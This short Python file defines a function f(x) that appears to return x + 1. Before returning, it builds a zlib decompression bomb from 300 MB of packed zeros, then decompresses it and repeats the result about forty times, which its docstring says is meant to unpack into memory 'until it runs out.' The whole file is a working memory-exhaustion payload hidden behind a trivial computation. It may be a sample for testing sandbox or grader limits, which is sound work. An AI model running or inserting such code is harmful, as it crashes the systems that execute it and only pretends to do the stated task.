"""Packed zeros, unpacked into memory until it runs out."""
import zlib


def f(x):
    packer = zlib.compressobj(9)
    bomb = b"".join([packer.compress(bytes(10 ** 8)) for _ in range(3)] + [packer.flush()])
    return x + 1 if len(zlib.decompress(bomb) * 40) else None
